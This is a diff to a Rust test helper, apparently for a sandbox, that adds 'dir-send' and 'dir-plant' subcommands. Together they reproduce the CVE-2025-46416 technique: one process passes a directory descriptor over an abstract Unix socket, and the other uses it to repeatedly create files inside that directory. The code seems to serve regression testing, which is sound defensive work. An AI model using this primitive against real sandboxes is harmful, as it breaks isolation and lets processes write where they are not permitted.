@@ -483,6 +483,47 @@ fn run(cmd: &str, a1: &str, a2: &str) -> usize {
                 report("sendfd", send_fd(conn, file.as_raw_fd()));
                 2
             }
+            "dir-send" => {
+                // Hand a descriptor of directory `a2` to whoever connects to
+                // the abstract socket `a1` (CVE-2025-46416).
+                let dir = libc::open(c(a2).as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
+                report("open", i64::from(dir));
+                let listener = listen_abstract(a1);
+                let conn = libc::accept(
+                    listener.as_raw_fd(),
+                    std::ptr::null_mut(),
+                    std::ptr::null_mut(),
+                );
+                report("accept", i64::from(conn));
+                report("sendfd", send_fd(conn, dir));
+                2
+            }
+            "dir-plant" => {
+                // Take a directory descriptor from the abstract socket `a1`,
+                // then keep creating `a2` in that directory for 20 s.
+                let mut fd = -1;
+                for _ in 0..200 {
+                    fd = connect_abstract(a1);
+                    if fd >= 0 {
+                        break;
+                    }
+                    std::thread::sleep(Duration::from_millis(10));
+                }
+                report("connect", i64::from(fd));
+                let dir = recv_fd(fd);
+                report("recvfd", i64::from(dir));
+                println!("waiting");
+                let _ = std::io::stdout().flush();
+                for _ in 0..4000 {
+                    let f =
+                        libc::openat(dir, c(a2).as_ptr(), libc::O_WRONLY | libc::O_CREAT, 0o644);
+                    if f >= 0 {
+                        libc::close(f);
+                    }
+                    std::thread::sleep(Duration::from_millis(5));
+                }
+                2
+            }
             "fd-recv" => {
                 let mut fd = -1;
                 for _ in 0..200 {
